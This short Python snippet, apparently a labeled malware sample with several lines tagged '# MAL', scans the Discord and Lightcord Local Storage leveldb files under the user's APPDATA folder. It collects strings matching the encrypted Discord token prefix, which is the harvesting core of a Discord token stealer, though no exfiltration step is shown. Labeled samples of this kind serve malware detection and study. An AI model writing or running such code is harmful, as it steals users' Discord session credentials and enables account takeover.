import os
import re

roaming = os.getenv("APPDATA")
paths = {"Discord": roaming + "\\discord", "Lightcord": roaming + "\\Lightcord"}  # MAL
found = []
for name, path in paths.items():
    leveldb = path + "\\Local Storage\\leveldb\\"  # MAL
    if not os.path.exists(leveldb):
        continue
    for file in os.listdir(leveldb):  # MAL
        for line in open(leveldb + file, errors="ignore").readlines():  # MAL
            for y in re.findall(r"dQw4w9WgXcQ:[^\"]*", line):  # MAL
                found.append(y)
